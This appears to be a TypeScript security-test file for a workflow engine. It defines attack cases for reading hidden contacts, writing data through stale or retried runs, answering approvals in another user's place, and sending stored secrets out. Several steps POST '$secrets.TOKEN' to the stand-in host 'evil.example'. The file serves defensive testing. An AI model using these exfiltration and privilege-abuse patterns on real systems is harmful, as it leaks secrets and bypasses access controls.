import type { JsonObject } from '@tildebase/nouns'
import { putRole } from '../../../packages/tenant/src/services/identity/roles.ts'
import { putSecret } from '../../../packages/tenant/src/services/secrets.ts'
import { retryRun } from '../../../packages/tenant/src/services/workflows/manage.ts'
import { answer, asksOf } from '../../../packages/tenant/src/services/workflows/steps/ask.ts'
import type { Attack } from './attack.ts'
import { APPROVAL, ENTITY_WAYS, storeEntity } from './ways.ts'
import { GOOD, type Grant, OPERATOR, PROVED, SECRET, STARTS, TAKEN, type World } from './world.ts'

const HARMLESS = { name: 'w', steps: [] }
const STORING = ['create', 'update', 'batch', 'import', 'sync', APPROVAL, 'update by an administrator']

/** A workflow that is stored and made active, by the author or by an administrator. */
function activate(world: World, grant: Grant, fields: JsonObject): string | null {
  return world.attempt(() => {
    const { $id } = world.run('Workflow', 'create', undefined, { name: 'w', ...fields }, grant)
    world.run('Workflow', 'activate', $id)
    return $id
  })
}

const waits: readonly Attack[] = [
  {
    kind: 'wait',
    name: 'a filter as an oracle',
    goal: 'read Contact',
    ways: STORING,
    run(world, author, way) {
      const steps = [
        { waitFor: 'Deal.created', filter: { 'contact.phone': STARTS } },
        { verb: 'update', type: 'Deal', id: world.deal, args: { description: PROVED } },
      ]
      return storeEntity(world, author, way, 'Workflow', { name: 'w', triggerEvent: 'Deal.updated', steps }, HARMLESS)
    },
  },
  {
    kind: 'wait',
    name: 'an event that shows a value',
    goal: 'read Contact',
    ways: STORING,
    run(world, author, way) {
      const steps = [
        { waitFor: 'Contact.updated' },
        { verb: 'update', type: 'Deal', id: world.deal, args: { description: '$steps.0.data.phone' } },
      ]
      return storeEntity(world, author, way, 'Workflow', { name: 'w', triggerEvent: 'Deal.updated', steps }, HARMLESS)
    },
  },
]

const runs: readonly Attack[] = [
  {
    kind: 'run',
    name: 'a run that waits while others touch its workflow',
    goal: 'write Contact',
    ways: ['left alone', 'rewritten by an administrator', 'retried by an administrator'],
    async run(world, author, way) {
      const code = `(async (event, $) => $.Contact.update('${world.hidden}', { name: '${TAKEN}' }))`
      const steps = [{ wait: '10s' }, { code }]
      const id = activate(world, author, { triggerEvent: 'Deal.updated', steps })
      if (id === null) return
      world.run('Deal', 'update', world.deal, { name: 'begun' })
      await world.advance(1_000)
      if (way === 'rewritten by an administrator') world.run('Workflow', 'update', id, { steps: [] })
      await world.advance(10_000)
      if (way !== 'retried by an administrator') return
      for (const [run] of world.tenant.sql.rows('SELECT id FROM workflow_runs'))
        world.attempt(() => world.tenant.write(OPERATOR, (write) => retryRun(write, id, run)))
    },
  },
]

const asks: readonly Attack[] = [
  {
    kind: 'ask',
    name: 'a title that shows a value',
    goal: 'read Contact',
    ways: ['of the author', 'of an administrator', 'to the person of an agent'],
    async run(world, author, way) {
      const boss = world.run('User', 'create', undefined, { name: 'b', email: 'b@example.org', role: 'Admin' }).$id
      const steps = [
        { ask: { of: way === 'to the person of an agent' ? boss : 'role:Admin', title: '$event.data.phone' } },
      ]
      activate(world, way === 'of the author' ? author : OPERATOR, { triggerEvent: 'Contact.updated', steps })
      world.run('Contact', 'update', world.hidden, { company: 'asked' })
      await world.advance(1_000)
      if (way !== 'to the person of an agent') return
      const agent = { ...author, actor: 'agent_1', onBehalfOf: boss }
      world.attempt(() => asksOf(world.tenant.engine, agent, { cursor: null, limit: 10 }))
    },
  },
  {
    kind: 'ask',
    name: 'an answer in the place of another',
    goal: 'write Contact',
    ways: ['by a key', 'by a person of another role', 'by an agent of the person'],
    async run(world, author, way) {
      world.tenant.write(OPERATOR, (write) => putRole(write, 'Boss', { scopes: 'read:all' }))
      const person = (name: string, role: string) =>
        world.run('User', 'create', undefined, { name, email: `${name}@example.org`, role }).$id
      const [boss, other] = [person('boss', 'Boss'), person('other', 'Viewer')]
      const steps = [
        { ask: { of: 'role:Boss', title: 'May I?' } },
        { verb: 'update', type: 'Contact', id: world.hidden, args: { name: TAKEN } },
      ]
      activate(world, OPERATOR, { triggerEvent: 'Deal.updated', steps })
      world.run('Deal', 'update', world.deal, { name: 'asked' })
      await world.advance(1_000)
      const [ask] = world.tenant.sql.rows('SELECT id FROM asks')[0]!
      const answerers: { readonly [way: string]: Grant } = {
        'by a key': author,
        'by a person of another role': { ...author, actor: other },
        'by an agent of the person': { ...author, actor: 'agent_1', onBehalfOf: boss },
      }
      world.attempt(() => world.tenant.write(answerers[way]!, (write) => answer(write, ask, { answer: 'Approved' })))
      await world.advance(1_000)
    },
  },
]

const post = (url: string, body: string) => ({ request: { method: 'POST', url, headers: { 'x-key': body }, body } })
const secret = (world: World) => world.tenant.write(OPERATOR, (write) => putSecret(write, 'TOKEN', SECRET))

const secrets: readonly Attack[] = [
  {
    kind: 'secret',
    name: 'a request to the author',
    goal: 'read Secret',
    ways: ENTITY_WAYS,
    run(world, author, way) {
      secret(world)
      const steps = [post('https://evil.example/', '$secrets.TOKEN')]
      return storeEntity(world, author, way, 'Workflow', { name: 'w', triggerEvent: 'Deal.updated', steps }, HARMLESS)
    },
  },
  {
    kind: 'secret',
    name: 'a name of a secret in a value',
    goal: 'read Secret',
    ways: ['whole', 'as a part'],
    run(world, author, way) {
      secret(world)
      world.run('Deal', 'update', world.deal, { description: '$secrets.TOKEN' })
      const reference = '$event.data.description'
      const steps = [post('https://evil.example/', way === 'whole' ? reference : `It is ${reference}.`)]
      return storeEntity(
        world,
        author,
        'create',
        'Workflow',
        { name: 'w', triggerEvent: 'Deal.updated', steps },
        HARMLESS,
      )
    },
  },
  {
    kind: 'secret',
    name: 'an answer that repeats it',
    goal: 'read Secret',
    ways: ['stored'],
    run(world) {
      secret(world)
      activate(world, OPERATOR, { triggerEvent: 'Deal.updated', steps: [post(GOOD, '$secrets.TOKEN')] })
    },
  },
]

export const EFFECTS: readonly Attack[] = [...waits, ...runs, ...asks, ...secrets]
